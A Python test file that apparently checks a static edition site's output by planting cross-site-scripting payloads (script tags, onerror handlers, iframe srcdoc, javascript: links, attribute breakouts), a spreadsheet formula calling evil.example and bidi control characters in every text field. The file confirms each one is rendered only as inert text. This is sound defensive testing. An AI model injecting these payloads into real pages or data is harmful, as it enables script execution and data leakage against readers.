"""Data is never markup: a copy of the real source list whose every text field carries an attack (a
script, an image with an error handler, an iframe, an attribute breakout, a javascript: link and an
image in Markdown, attribute lists, a footnote reference, emphasis, entities, a spreadsheet formula) is
checked, made into every page and download and the
offline exports' documents, and guarded, in this process; nothing in it is live, and every attack
reaches a reader as the words it is. What cannot be shown as words is refused where it is written:
a made-up quotation in any spelling of quotation marks, a hidden or reordering character, an address
that breaks out.

The fields are not listed by hand: `text_fields` walks the source list's models (tools/model/
sourcelist.py), so a text field added to a record is attacked without touching this file; a field that
cannot carry an attack says why in EXEMPT.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import typing
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import Project, copy_project
from inprocess import SITE_URL, guarded
from pydantic import BaseModel

from tools.checker import Result
from tools.guard.site import page_kind
from tools.model import sourcelist
from tools.model.edition import Site
from tools.model.findings import Finding
from tools.model.html import local, parse, text_of
from tools.model.textfile import CSV_FORMULA_START
from tools.model.values import _text
from tools.publish.bookmeta import book_meta
from tools.publish.bookpages import Page, allowed_of, article_of, page_anchor
from tools.publish.epub import epub_files
from tools.publish.singlefile import single_file
from tools.site.citing import heads
from tools.site.prepare import downloads

Field = tuple[str, str]  # (model, field)
ATTACK = (
    # a spreadsheet formula first, as a cell would start with it
    "=HYPERLINK(http://evil.example/?{mark}) {mark} <script>alert(document.domain)</script> "
    "<img src=x onerror=alert(document.domain)> "
    "<iframe srcdoc=&lt;script&gt;alert(document.domain)&lt;/script&gt;></iframe> "
    # (each ' after a word: a single-quoted attribute's break-out, which is no quotation mark)
    "x' onmouseover=alert(document.domain) x=y' [here](javascript:alert(document.domain)) "
    "![pixel](https://evil.example/pixel.png) {{: onclick=alert(document.domain) }} {{: #planted }} [^note] "
    "*em* &amp; &amp;lt;b&amp;gt; =HYPERLINK(evil)"
)
PER_FIELD = 2  # values attacked in each field: every field, not every value (the guard reads them all alike)
SHOWN = "<script>alert(document.domain)</script> <img src=x onerror=alert(document.domain)>"
EXEMPT: dict[Field, str] = {
    ("Quotation", "text"): "the chapter's words, checked word by word against the page",
    ("Quotation", "introduced_as"): "a spelling in the chapter's prose, checked against it",
    ("Note", "term"): "words of the paragraph the note concerns, checked against it",
    ("Person", "variants"): "spellings of a name, each one person's (the chapter's words are linked by them)",
    ("Citation", "covers"): "the names of the entry's fact fields",
    ("EditionFacts", "original"): "a file name of the project",
    ("EditionFacts", "pages"): "file names of the project",
    ("EditionFacts", "editorial"): "file names of the project",
    ("EditionFacts", "contact"): "an address: attacked below",
    ("Policy", "reference_covers"): "names of fact fields",
    ("SourceList", "not_names"): "words of the chapter that are no name",
    ("ScareQuote", "text"): "words of the chapter in quotation marks, checked against it",
    ("ScareQuote", "page"): "a file name of the project",
}
NOT_SHOWN: dict[Field, str] = {
    ("MirrorSite", "domain"): "the policy the checker applies",
    ("MirrorSite", "copies"): "the policy the checker applies",
    ("UnauthorisedSite", "domain"): "the policy the checker applies",
    ("UnauthorisedSite", "what"): "the policy the checker applies",
}
EXPORTS = ("index", "warning", "praise", "trotsky", "meetings", "people", "quotations", "trials", "sources", "glossary")


def is_text(annotation: Any) -> bool:
    if any(getattr(m, "func", None) is _text for m in getattr(annotation, "__metadata__", ())):
        return True
    return any(is_text(a) for a in typing.get_args(annotation))


def records_in(annotation: Any) -> Iterator[type[BaseModel]]:
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        yield annotation
    for argument in typing.get_args(annotation):
        yield from records_in(argument)


def text_fields(model: type[BaseModel]) -> Iterator[tuple[str, str]]:
    """(field, YAML key) of each text field of `model`."""
    for name, info in model.model_fields.items():
        if is_text(info.annotation) or any(getattr(m, "func", None) is _text for m in info.metadata):
            yield name, info.alias or name


def every_text_field() -> set[Field]:
    found: set[Field] = set()
    todo: list[type[BaseModel]] = [sourcelist.SourceList]
    seen: set[type[BaseModel]] = set()
    while todo:
        model = todo.pop()
        if model in seen:
            continue
        seen.add(model)
        found |= {(model.__name__, name) for name, _ in text_fields(model)}
        todo += [r for info in model.model_fields.values() for r in records_in(info.annotation)]
    return found


def marker(number: int) -> str:
    """HOSTILE-ab: letters only (a number in a fact must be one its source says)."""
    letters = ""
    while True:
        number, rest = divmod(number, 26)
        letters = chr(97 + rest) + letters
        if not number:
            return f"HOSTILE-{letters}"


@dataclass
class Planted:
    fields: set[Field]
    marks: dict[str, Field]  # marker -> the field it is in
    original: str = ""  # the id of the work the edition is part of


def plant(model: type[BaseModel], raw: Any, planted: Planted) -> None:
    if not isinstance(raw, dict):
        return
    for name, info in model.model_fields.items():
        key = info.alias or name
        value = raw.get(key)
        if value is None:
            continue
        field = (model.__name__, name)
        attacked = sum(1 for f in planted.marks.values() if f == field)
        # the original's author is held to a name's shape (author-name): another work's is attacked
        named = field == ("Work", "author") and raw.get("id") == planted.original
        if field not in EXEMPT and not named and (name, key) in set(text_fields(model)) and attacked < PER_FIELD:
            mark = marker(len(planted.marks))
            planted.marks[mark] = field
            planted.fields.add(field)
            attack = ATTACK.format(mark=mark)
            if field == ("Citation", "said"):  # the words read keep the numbers the facts give
                raw[key] = [*([value] if isinstance(value, str) else value), attack]
            else:
                raw[key] = [attack] if isinstance(value, list) else attack
        for record in records_in(info.annotation):
            items = value.values() if isinstance(value, dict) and record is sourcelist.StatusText else value
            for item in items if isinstance(items, list | type({}.values())) else [items]:
                plant(record, item, planted)


@dataclass
class Attacked:
    root: Path
    planted: Planted
    result: Result
    guard: list[Finding]
    pages: dict[str, ET.Element]  # every page as the engine renders it, as the guard read it
    files: dict[str, str]  # the downloads
    exports: dict[str, str]  # the single file and the EPUB's documents


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Attacked:
    project = copy_project(tmp_path_factory.mktemp("hostile") / "project")
    path = project.path("data/sources.yml")
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    planted = Planted(set(), {}, data["edition"]["work"])
    plant(sourcelist.SourceList, data, planted)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
    project.admit()  # what the planted words are is the point here, not whether they were read
    trees: dict[str, ET.Element] = {}
    result, found = guarded(project.root, on_page=trees.__setitem__)
    assert result.checked is not None
    files = downloads(result.checked, Site(SITE_URL))
    return Attacked(project.root, planted, result, found, trees, files, documents(result, trees, project.root))


def documents(result: Result, trees: dict[str, ET.Element], project: Path) -> dict[str, str]:
    """What the single file and the EPUB make of these pages (their own allowlist check included)."""
    checked = result.checked
    assert checked is not None
    allowed = allowed_of(checked, None, SITE_URL)
    meta = book_meta(checked, SITE_URL, project)

    def book() -> list[Page]:
        out = []
        for stem in EXPORTS:
            body = article_of(trees[f"{stem}.html"])
            assert body is not None
            body = copy.deepcopy(body)
            body.tag, body.attrib = "section", {"class": "page", "id": page_anchor(f"{stem}.html")}
            out.append(Page(f"{stem}.html", stem, page_kind(f"{stem}.html", checked), body))
        return out

    files = epub_files(book(), meta, allowed, "warning.html")
    files["single.html"] = single_file(book(), meta, allowed, "p { color: black }")
    return files


def live(root: ET.Element) -> list[str]:
    """What a browser would run or load from this tree, or what Markdown would have made of the
    attack (a footnote, an id), read here independently of the guard."""
    found = []
    for element in root.iter():
        tag = local(element.tag)
        if tag in ("script", "iframe", "object", "embed", "img", "base", "form", "frame", "style", "sup"):
            found.append(f"<{tag}>")
        if element.get("id") in ("planted", "fnref:note") or (element.get("href") or "").startswith(
            ("https://evil", "http://evil")
        ):
            found.append(f"<{tag} {element.get('id') or element.get('href')}>")
        for name, value in element.attrib.items():
            name = local(name).lower()
            if name.startswith("on") or name in ("srcdoc", "style", "formaction"):
                found.append(f"<{tag} {name}>")
            if name in ("href", "src", "action") and "".join(value.split()).lower().startswith(
                ("javascript:", "data:")
            ):
                found.append(f"<{tag} {name}={value[:40]}>")
    return found


# --- the attack is everywhere ------------------------------------------------------------------------


def test_every_text_field_is_attacked_or_exempt(attacked: Attacked) -> None:
    """A text field added to a record is attacked here by itself, or must say why it cannot be."""
    present = attacked.planted.fields | set(EXEMPT)
    missing = every_text_field() - present
    assert len(attacked.planted.fields) >= 40
    # The real source list leaves a few optional fields empty: those are attacked where they have a value.
    assert missing <= {("Person", "implied_by"), ("Work", "edition")}, missing


def test_the_checker_and_the_guard_pass_it_as_harmless_text(attacked: Attacked) -> None:
    assert [str(f) for f in attacked.result.errors] == []
    assert [str(f) for f in attacked.guard] == []


def test_every_attack_reaches_a_reader_as_words(attacked: Attacked) -> None:
    texts = " ".join(text_of(root) for root in attacked.pages.values())
    texts += " ".join(v for root in attacked.pages.values() for e in root.iter() for v in e.attrib.values())
    texts += " ".join(attacked.files.values())
    unseen = {attacked.planted.marks[m] for m in attacked.planted.marks if f"{m} {SHOWN}" not in texts}
    shown = {attacked.planted.marks[m] for m in attacked.planted.marks if f"{m} {SHOWN}" in texts}
    assert unseen - shown - set(NOT_SHOWN) == set(), "a field never shown cannot pass for a safe one"


def test_nothing_is_live_on_any_page(attacked: Attacked) -> None:
    for name, root in attacked.pages.items():
        assert live(root) == [], name
        assert not [a for a in root.iter() if local(a.tag) == "a" and "javascript" in a.get("href", "")], name


def test_nothing_is_live_in_the_single_file_or_the_epub(attacked: Attacked) -> None:
    for name, document in attacked.exports.items():
        if not name.endswith((".xhtml", ".html")) or "nav" in name:
            continue
        root = ET.fromstring(document.encode("utf-8")) if name.endswith(".xhtml") else parse(document)  # XML: fast
        # The single file's own stylesheet and its favicon, an inline SVG drawn as an image.
        own = {"<style>", "<link href=data:image/svg+xml,%3Csvg%20xmlns='http:>"}
        assert [f for f in live(root) if f not in own] == [], name
        assert not [e for e in root.iter() if local(e.tag) == "script"], name
    single = text_of(parse(attacked.exports["single.html"]))
    assert SHOWN in single


def test_the_data_files_are_data(attacked: Attacked) -> None:
    rows = list(csv.reader(io.StringIO(attacked.files["quotations.csv"])))
    cells = [cell for row in rows[1:] for cell in row]
    assert [c for c in cells if c.startswith(CSV_FORMULA_START)] == []
    assert any(c.startswith("'=HYPERLINK(http://evil.example/?HOSTILE-") for c in cells)  # shown, never run
    data = json.loads(attacked.files["quotations.json"])
    assert all(isinstance(row, dict) for row in data)
    assert "HOSTILE-" in json.dumps(json.loads(attacked.files["edition.csl.json"]), ensure_ascii=False)


# --- what cannot be words is refused where it is written ------------------------------------------------


@pytest.mark.parametrize(
    "said",
    [
        "He said “we are lost” then.",
        "He said 'we are lost' then.",
        "He said «we are lost» then.",
        "He said „we are lost“ then.",
        "He said ''we are lost'' then.",
        "He said ‘we are lost’ then.",
        "He said ``we are lost'' then.",
        "He said ＂we are lost＂ then.",
        "He said ‹we are lost› then.",
        "He said 「we are lost」 then.",
    ],
)
def test_a_made_up_quotation_is_refused_however_it_is_spelled(said: str, mini: Project) -> None:
    old = "    summary: Soviet leader under whom the Moscow Trials were staged."
    mini.replace("data/sources.yml", old, "    summary: " + json.dumps(said, ensure_ascii=False))
    findings = [f for f in mini.check().errors if f.rule == "prose-quote"]
    line = mini.read("data/sources.yml").split(said.split()[2])[0].count("\n") + 1
    assert [f.line for f in findings] == [line], [str(f) for f in mini.check().findings]


@pytest.mark.parametrize("hidden", ["\u202e", "\u2066", "\u200b", "\u00ad", "\u0007", "\ufeff"])
def test_a_hidden_or_reordering_character_is_refused_even_as_an_escape(hidden: str, mini: Project) -> None:
    """Written as a YAML escape ("\\u202e") the file holds plain ASCII; the value does not."""
    old = "    summary: Soviet leader under whom the Moscow Trials were staged."
    escaped = json.dumps(f"Soviet {hidden}leader", ensure_ascii=True)
    mini.replace("data/sources.yml", old, f"    summary: {escaped}")
    found = [str(f) for f in mini.check().errors]
    assert any(f"U+{ord(hidden):04X}" in f and "hidden or reordering" in f for f in found), found


@pytest.mark.parametrize(
    "address",
    ['https://evil.example/"><script>alert(1)</script>', "javascript:alert(1)", "https://evil.example/ onmouseover=x"],
)
def test_an_address_that_breaks_out_is_refused(address: str, mini: Project) -> None:
    old = "        read_at: https://en.wikipedia.org/wiki/Joseph_Stalin"
    mini.replace("data/sources.yml", old, f"        read_at: {json.dumps(address)}")
    assert [f.rule for f in mini.check().errors] == ["yaml-schema"]


@pytest.mark.parametrize("contact", ['"><script>alert(document.domain)</script>', "javascript:alert(document.domain)"])
def test_a_hostile_contact_stays_a_value_in_the_head(contact: str, attacked: Attacked) -> None:
    """The contact goes into each page's <head> as a meta value (edition.js offers Report a problem only
    for an https: or e-mail address: tests/browser)."""
    assert attacked.result.checked is not None
    for name, head in heads(attacked.result.checked, Site(SITE_URL, contact=contact)).items():
        root = parse(f"<html><head>{head}</head><body></body></html>")
        metas = [e for e in root.iter() if local(e.tag) == "meta" and e.get("name") == "edition-contact"]
        assert [m.get("content") for m in metas] == [contact], name
        assert not [e for e in root.iter() if local(e.tag) == "script" and not e.get("type")], name
